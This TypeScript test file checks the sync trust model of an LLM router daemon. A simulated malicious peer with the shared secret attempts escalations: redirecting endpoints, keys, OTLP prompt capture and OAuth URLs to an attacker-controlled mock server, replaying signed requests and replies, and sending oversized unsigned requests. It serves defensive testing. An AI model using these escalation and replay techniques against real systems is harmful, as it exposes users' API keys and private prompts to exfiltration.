/**
 * The sync trust model (docs/security.md "Sync trust model"), between real daemons over loopback. A peer
 * holding the shared secret (E) tries every escalation on a victim (V): repoint a node's base URL, add a
 * new endpoint and route a combo to it, widen a key's scopes, turn requireLogin off, open /metrics, add an
 * OTLP export with prompt content, override OAuth endpoints, swap the Telegram bot, repoint a connection.
 * Each is refused while cloudSync.applySecurityChanges is off, and applied, at once, when it is on.
 * Replays of signed requests and replies are refused; an unsigned or oversized request is answered
 * before its body is read.
 */
import { createHmac, randomBytes } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import { connect } from 'node:net';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startMockUpstream, type MockUpstream } from '../mocks/upstream.js';
import { startRouter, type RouterProcess } from '../support/router-daemon.js';

const SECRET = 'the-shared-secret-of-both-peers-xyz';
let up: MockUpstream; // where V's own endpoints are
let evil: MockUpstream; // where the peer wants V's keys and prompts to go
let v: RouterProcess;
let e: RouterProcess;
let ciKey: string;

const hmac = (text: string) => createHmac('sha256', SECRET).update(text).digest('hex');

/** A request to a remote signed as a router signs it (X-Cloud-Sig over the body, X-Cloud-Sync-Auth before it). */
function signedRequest(action: string, opts: { sentAt?: number; nonce?: string; extra?: object } = {}) {
  const nonce = opts.nonce ?? randomBytes(16).toString('hex');
  const sent = opts.sentAt ?? Date.now();
  const body = JSON.stringify({ action, sentAt: new Date(sent).toISOString(), nonce, ...opts.extra });
  const length = Buffer.byteLength(body);
  return {
    nonce,
    body,
    headers: {
      'content-type': 'application/json',
      'x-cloud-sig': `sha256=${hmac(body)}`,
      'x-cloud-sync-auth': `nonce=${nonce};sent=${sent};length=${length};sha256=${hmac(`router-sync-request/2\n${nonce}\n${sent}\n${length}`)}`,
    },
  };
}

async function chat(r: RouterProcess, key: string, model: string) {
  const res = await fetch(`${r.url}/v1/chat/completions`, {
    method: 'POST',
    headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
    body: JSON.stringify({ model, messages: [{ role: 'user', content: 'a private prompt' }] }),
  });
  return { status: res.status, text: await res.text() };
}

const vSettings = async () => (await v.manage('GET', '/api/settings')).json;
const setTrust = (overwriteCredentials: boolean, applySecurityChanges: boolean) =>
  v.manage('PATCH', '/api/settings', { cloudSync: { url: `${e.url}/api/sync/cloud/remote`, secret: SECRET, enabled: true, overwriteCredentials, applySecurityChanges } });
const change = (changes: any[], kind: string, name: string) => changes.find((c) => c.kind === kind && c.name === name);

/** The escalations E's settings carry, and what V has by default. */
const ESCALATED_SETTINGS = (evilUrl: string) => ({
  requireLogin: false,
  metricsOpenOnLoopback: true,
  copilotAllowManageKey: true,
  keychainLegacyImport: true,
  allowPrivateWebhookDestinations: true,
  otelEndpoint: `${evilUrl}/v1/traces`,
  otelProtocol: 'http/json',
  otelCaptureContent: true,
  otelPropagateTraceparent: true,
  captureTraffic: true,
  oauthEndpoints: { codex: { tokenUrl: `${evilUrl}/oauth/token` }, 'claude-code': { authorizeUrl: `${evilUrl}/authorize` } },
});

beforeAll(async () => {
  [up, evil] = await Promise.all([startMockUpstream(), startMockUpstream()]);
  [v, e] = await Promise.all([startRouter(), startRouter()]);
  // V: its own node with its key, an OpenAI account on its own base URL, a combo, a proxy-only key.
  expect((await v.manage('POST', '/api/provider-nodes', { name: 'Corp', prefix: 'corp', type: 'openai-compatible', baseUrl: up.openaiBase })).status).toBe(201);
  await v.addConnection({ provider: 'corp', name: 'main', apiKey: 'sk-victim-node-key' });
  await v.addConnection({ provider: 'openai', name: 'work', apiKey: 'sk-victim-openai', providerSpecificData: { baseUrl: up.openaiBase } });
  expect((await v.manage('POST', '/api/combos', { name: 'team', models: ['corp/m1'] })).status).toBe(201);
  const k = await v.manage('POST', '/api/keys', { name: 'ci', scopes: ['proxy'] });
  ciKey = k.json.key;
  await setTrust(false, false);
  await new Promise((r) => setTimeout(r, 20));
  // E, changed later (its records win the last-writer rule): each escalation.
  await e.manage('PATCH', '/api/settings', { cloudSync: { url: '', secret: SECRET, enabled: true }, cacheTtlSeconds: 777, telegramBotToken: '123456:evil-bot-token', ...ESCALATED_SETTINGS(evil.url) });
  expect((await e.manage('POST', '/api/provider-nodes', { name: 'Corp', prefix: 'corp', type: 'openai-compatible', baseUrl: evil.openaiBase })).status).toBe(201);
  expect((await e.manage('POST', '/api/provider-nodes', { name: 'Side', prefix: 'side', type: 'openai-compatible', baseUrl: evil.openaiBase, customHeaders: { 'X-Tenant-Key': 'hdr-secret-of-the-side-node' } })).status).toBe(201);
  await e.addConnection({ provider: 'side', name: 'main', apiKey: 'sk-evil-side' });
  await e.addConnection({ provider: 'openai', name: 'work', apiKey: 'sk-evil-openai', providerSpecificData: { baseUrl: evil.openaiBase } });
  expect((await e.manage('POST', '/api/combos', { name: 'team', models: ['side/m1'] })).status).toBe(201);
  expect((await e.manage('POST', '/api/keys', { name: 'ci', scopes: ['proxy', 'manage'] })).status).toBe(201);
});
afterAll(async () => {
  await Promise.all([v?.stop(), e?.stop()]);
  await Promise.all([up?.close(), evil?.close()]);
});

describe('a peer with the shared secret', () => {
  it('cannot escalate while applySecurityChanges is off (overwriteCredentials off, then on)', async () => {
    for (const overwrite of [false, true]) {
      await setTrust(overwrite, false);
      const r = await v.manage('POST', '/api/sync/cloud', { action: 'pull' });
      expect(r.status, JSON.stringify(r.json)).toBe(200);
      const changes = r.json.report.changes;
      const held = /applySecurityChanges/;
      expect(change(changes, 'node', 'corp'), 'node base URL').toMatchObject({ result: 'skipped', reason: expect.stringMatching(/base URL.*applySecurityChanges/) });
      expect(change(changes, 'node', 'side'), 'new node').toMatchObject({ result: 'skipped', reason: expect.stringMatching(/new endpoint.*applySecurityChanges/) });
      expect(change(changes, 'combo', 'team'), 'combo onto the new node').toMatchObject({ result: 'skipped' });
      expect(change(changes, 'key', 'ci'), 'key scopes').toMatchObject({ result: 'skipped', reason: expect.stringMatching(/scopes.*applySecurityChanges/) });
      for (const name of Object.keys(ESCALATED_SETTINGS(''))) {
        expect(change(changes, 'setting', name), name).toMatchObject({ result: 'skipped', reason: expect.stringMatching(held) });
      }
      expect(change(changes, 'setting', 'telegramBotToken')).toMatchObject({ result: 'skipped' });
      if (overwrite) {
        expect(change(changes, 'connection', 'openai/work'), 'connection base URL').toMatchObject({ result: 'skipped', reason: expect.stringMatching(/endpoint \(baseUrl\).*applySecurityChanges/) });
      }
      // Data still syncs.
      expect((await vSettings()).cacheTtlSeconds).toBe(777);
    }
    const s = await vSettings();
    expect(s).toMatchObject({ requireLogin: true, metricsOpenOnLoopback: false, otelEndpoint: '', otelCaptureContent: false, captureTraffic: false, oauthEndpoints: {}, telegramBotToken: '' });
    for (const [name, value] of Object.entries(ESCALATED_SETTINGS(evil.url))) expect(s[name], name).not.toEqual(value);
    // The victim's traffic still goes where it did; nothing reached the peer's server.
    expect((await chat(v, ciKey, 'corp/m1')).status).toBe(200);
    expect((await chat(v, ciKey, 'team')).status).toBe(200);
    expect((await chat(v, ciKey, 'openai/gpt-4o')).status).toBe(200);
    expect(up.requests.filter((q) => q.endpoint === 'openai.chat').map((q) => q.headers.authorization)).toEqual(['Bearer sk-victim-node-key', 'Bearer sk-victim-node-key', 'Bearer sk-victim-openai']);
    expect(evil.requests).toEqual([]);
    // The key is still proxy-only; management still needs a login.
    expect((await fetch(`${v.url}/api/keys`, { headers: { authorization: `Bearer ${ciKey}` } })).status).toBe(403);
    expect((await fetch(`${v.url}/api/keys`)).status).toBe(401);
    expect((await fetch(`${v.url}/metrics`)).status).toBe(401);
  });

  it('a push from the peer is held back the same way by the receiving router', async () => {
    await e.manage('PATCH', '/api/settings', { cloudSync: { url: `${v.url}/api/sync/cloud/remote`, secret: SECRET, enabled: true } });
    const r = await e.manage('POST', '/api/sync/cloud', { action: 'push' });
    expect(r.status, JSON.stringify(r.json)).toBe(200);
    expect(change(r.json.report.changes, 'setting', 'requireLogin')).toMatchObject({ result: 'skipped' });
    expect(change(r.json.report.changes, 'key', 'ci')).toMatchObject({ result: 'skipped' });
    expect(change(r.json.report.changes, 'node', 'corp')).toMatchObject({ result: 'skipped' });
    expect((await vSettings()).requireLogin).toBe(true);
  });

  it('with applySecurityChanges on, each change is applied and takes effect at once', async () => {
    await setTrust(true, true);
    const r = await v.manage('POST', '/api/sync/cloud', { action: 'pull' });
    expect(r.status, JSON.stringify(r.json)).toBe(200);
    const changes = r.json.report.changes;
    expect(change(changes, 'node', 'corp')).toMatchObject({ result: 'updated' });
    expect(change(changes, 'node', 'side')).toMatchObject({ result: 'created' });
    expect(change(changes, 'connection', 'node:side/main')).toMatchObject({ result: 'created' });
    expect(change(changes, 'combo', 'team')).toMatchObject({ result: 'updated' });
    expect(change(changes, 'key', 'ci')).toMatchObject({ result: 'updated' });
    expect(change(changes, 'connection', 'openai/work')).toMatchObject({ result: 'updated' });
    for (const name of [...Object.keys(ESCALATED_SETTINGS('')), 'telegramBotToken']) expect(change(changes, 'setting', name), name).toMatchObject({ result: 'updated' });
    const s = await vSettings();
    expect(s).toMatchObject({ ...ESCALATED_SETTINGS(evil.url), telegramBotToken: '123456:evi...' });
    // No restart: the repointed node, the new node and the combo on it answer now.
    up.reset();
    expect((await chat(v, ciKey, 'corp/m1')).status).toBe(200);
    expect((await chat(v, ciKey, 'side/m1')).status).toBe(200);
    expect((await chat(v, ciKey, 'team')).status).toBe(200);
    expect(evil.requests.filter((q) => q.endpoint === 'openai.chat').map((q) => q.headers.authorization)).toEqual([
      'Bearer sk-victim-node-key',
      'Bearer sk-evil-side',
      'Bearer sk-evil-side',
    ]);
    expect(evil.requests.filter((q) => q.endpoint === 'openai.chat').at(-1)!.headers['x-tenant-key']).toBe('hdr-secret-of-the-side-node');
    expect(up.requests).toEqual([]);
    expect((await fetch(`${v.url}/api/keys`, { headers: { authorization: `Bearer ${ciKey}` } })).status).toBe(200);
    expect((await fetch(`${v.url}/api/keys`)).status).toBe(200);
    expect((await fetch(`${v.url}/metrics`)).status).toBe(200);
  });
});

describe('snapshots on the wire', () => {
  it('carry no secret in the clear: connection keys, node headers and URLs, the Telegram token are sealed', async () => {
    const req = signedRequest('pull');
    const res = await fetch(`${e.url}/api/sync/cloud/remote`, { method: 'POST', headers: req.headers, body: req.body });
    expect(res.status).toBe(200);
    const text = await res.text();
    const snap = JSON.parse(text).snapshot;
    for (const secret of ['evil-bot-token', 'sk-evil-side', 'sk-evil-openai', 'hdr-secret-of-the-side-node', SECRET]) expect(text).not.toContain(secret);
    expect(snap.settings.telegramBotToken.value).toEqual({ sealed: expect.any(String) });
    expect(snap.nodes.find((n: any) => n.prefix === 'side')).toEqual(expect.objectContaining({ secrets: { sealed: expect.any(String) } }));
    expect(JSON.stringify(snap.nodes)).not.toContain(evil.openaiBase);
    expect(Object.keys(snap.settings)).not.toEqual(expect.arrayContaining(['cloudSync']));
  });
});

describe('replays', () => {
  it('a signed request is answered once; the same request again is refused, so is a stale one', async () => {
    await v.manage('PATCH', '/api/settings', { requireLogin: true });
    const req = signedRequest('status');
    const post = (r: { body: string; headers: Record<string, string> }) => fetch(`${v.url}/api/sync/cloud/remote`, { method: 'POST', headers: r.headers, body: r.body });
    const first = await post(req);
    expect(first.status, await first.clone().text()).toBe(200);
    expect((await first.json()).nonce).toBe(req.nonce);
    const again = await post(req);
    expect(again.status).toBe(409);
    expect((await again.json()).error.code).toBe('sync_replayed');
    const stale = await post(signedRequest('status', { sentAt: Date.now() - 6 * 60_000 }));
    expect(stale.status).toBe(400);
    // The body's nonce must be the one the header signed: a body from another request does not pass.
    const other = signedRequest('status');
    const spliced = await post({ body: other.body, headers: { ...signedRequest('status').headers, 'x-cloud-sig': other.headers['x-cloud-sig'] } });
    expect(spliced.status).toBe(401);
  });

  it('an old signed reply replayed to a new request is refused and nothing is applied', async () => {
    // A genuine signed pull reply of E, captured...
    const captured = signedRequest('pull');
    const res = await fetch(`${e.url}/api/sync/cloud/remote`, { method: 'POST', headers: captured.headers, body: captured.body });
    expect(res.status).toBe(200);
    const body = await res.text();
    const sig = res.headers.get('x-cloud-sig')!;
    // ...served again by someone on the path to V's next pull.
    const fake: Server = createServer((q, s) => {
      q.resume();
      q.on('end', () => s.writeHead(200, { 'content-type': 'application/json', 'x-cloud-sig': sig }).end(body));
    });
    await new Promise<void>((r) => fake.listen(0, '127.0.0.1', r));
    try {
      await v.manage('PATCH', '/api/settings', { cloudSync: { url: `http://127.0.0.1:${(fake.address() as AddressInfo).port}/`, secret: SECRET, enabled: true } });
      const r = await v.manage('POST', '/api/sync/cloud', { action: 'pull' });
      expect(r.status).toBe(502);
      expect(r.json.error.message).toMatch(/nonce differs.*nothing was applied/);
    } finally {
      await new Promise((r) => fake.close(r));
    }
  });
});

describe('the remote route reads nothing before the request is authenticated and within the limit', () => {
  /**
   * Sends only the request head (no body byte) and resolves with the status line, how long it took, and
   * whether the daemon then closed the connection (within 2 s) instead of waiting for the body.
   */
  function headOnly(head: string): Promise<{ status: string; ms: number; closed: boolean }> {
    return new Promise((resolve, reject) => {
      const started = Date.now();
      const sock = connect(v.port, '127.0.0.1');
      let got = '';
      let status = '';
      let ms = 0;
      const finish = (closed: boolean) => {
        clearTimeout(timer);
        sock.destroy();
        resolve({ status, ms, closed });
      };
      const timer = setTimeout(() => {
        sock.destroy();
        reject(new Error(`no answer within 5 s (got ${JSON.stringify(got.slice(0, 80))}): the daemon waits for the body`));
      }, 5000);
      sock.on('data', (d) => {
        got += d.toString('latin1');
        if (!status && got.includes('\r\n')) {
          status = got.split('\r\n')[0]!;
          ms = Date.now() - started;
          clearTimeout(timer);
          setTimeout(() => finish(false), 2000);
        }
      });
      sock.on('close', () => (status ? finish(true) : reject(new Error('closed without an answer'))));
      sock.on('error', () => {});
      sock.write(head);
    });
  }
  const MiB = 1024 * 1024;
  const head = (headers: Record<string, string>) =>
    `POST /api/sync/cloud/remote HTTP/1.1\r\nHost: 127.0.0.1:${v.port}\r\n${Object.entries(headers).map(([k, val]) => `${k}: ${val}\r\n`).join('')}\r\n`;

  const validAuth = (length: number) => {
    const nonce = randomBytes(16).toString('hex');
    const sent = Date.now();
    return `nonce=${nonce};sent=${sent};length=${length};sha256=${hmac(`router-sync-request/2\n${nonce}\n${sent}\n${length}`)}`;
  };

  beforeAll(async () => {
    await v.manage('PATCH', '/api/settings', { cloudSync: { url: '', secret: SECRET, enabled: true } });
  });

  it('unsigned, 4 MiB declared: 401 at once, without the body, and the connection is closed', async () => {
    const r = await headOnly(head({ 'content-type': 'application/json', 'content-length': String(4 * MiB), 'x-cloud-sig': 'sha256=00' }));
    expect(r.status).toMatch(/^HTTP\/1\.1 401/);
    expect(r.ms).toBeLessThan(2000);
    expect(r.closed).toBe(true);
  });

  it('a chunked body (no Content-Length): 411 at once, the connection closed', async () => {
    const r = await headOnly(head({ 'content-type': 'application/json', 'transfer-encoding': 'chunked', 'x-cloud-sig': 'sha256=00', 'x-cloud-sync-auth': validAuth(1000) }));
    expect(r.status).toMatch(/^HTTP\/1\.1 411/);
    expect(r.ms).toBeLessThan(2000);
    expect(r.closed).toBe(true);
  });

  it('unsigned, 60 MiB declared: 413 at once', async () => {
    const r = await headOnly(head({ 'content-type': 'application/json', 'content-length': String(60 * MiB) }));
    expect(r.status).toMatch(/^HTTP\/1\.1 413/);
    expect(r.ms).toBeLessThan(2000);
  });

  it('signed but over the 8 MiB sync limit: 413 at once, without the body', async () => {
    const length = 60 * MiB;
    const r = await headOnly(head({ 'content-type': 'application/json', 'content-length': String(length), 'x-cloud-sig': 'sha256=00', 'x-cloud-sync-auth': validAuth(length) }));
    expect(r.status).toMatch(/^HTTP\/1\.1 413/);
    expect(r.ms).toBeLessThan(2000);
  });

  it('the daemon still answers afterwards', async () => {
    expect((await v.manage('GET', '/api/settings')).status).toBe(200);
  });
});
